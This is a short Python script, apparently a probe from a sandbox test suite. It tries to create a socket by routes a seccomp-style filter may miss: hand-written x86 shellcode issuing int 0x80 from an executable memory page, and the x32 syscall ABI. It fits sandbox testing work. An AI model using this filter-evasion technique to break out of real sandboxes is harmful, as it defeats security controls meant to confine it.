"""Makes a socket by the kernel's 32-bit calls, which have other numbers than those that a filter knows."""

import ctypes
import mmap
import os

from attack import each, solo, syscall

SOCKET_32, SOCKET_X32 = 359, 0x40000000 | 41
AF_INET, SOCK_DGRAM = 2, 2


def by_interrupt():
    code = b"\x53\xb8" + SOCKET_32.to_bytes(4, "little") + b"\xbb" + AF_INET.to_bytes(4, "little")
    code += b"\xb9" + SOCK_DGRAM.to_bytes(4, "little") + b"\x31\xd2\xcd\x80\x5b\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = call()
    if result < 0:
        raise OSError(-result, "int 0x80")


def x32():
    syscall(SOCKET_X32, AF_INET, SOCK_DGRAM, 0)


def in_a_child(call):
    """The filter may kill for it."""
    child = os.fork()
    if child == 0:
        try:
            call()
        except OSError as error:
            os._exit(error.errno)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    if status:
        raise OSError(f"status {os.waitstatus_to_exitcode(status)}")


solo(lambda: each([by_interrupt, x32], in_a_child))
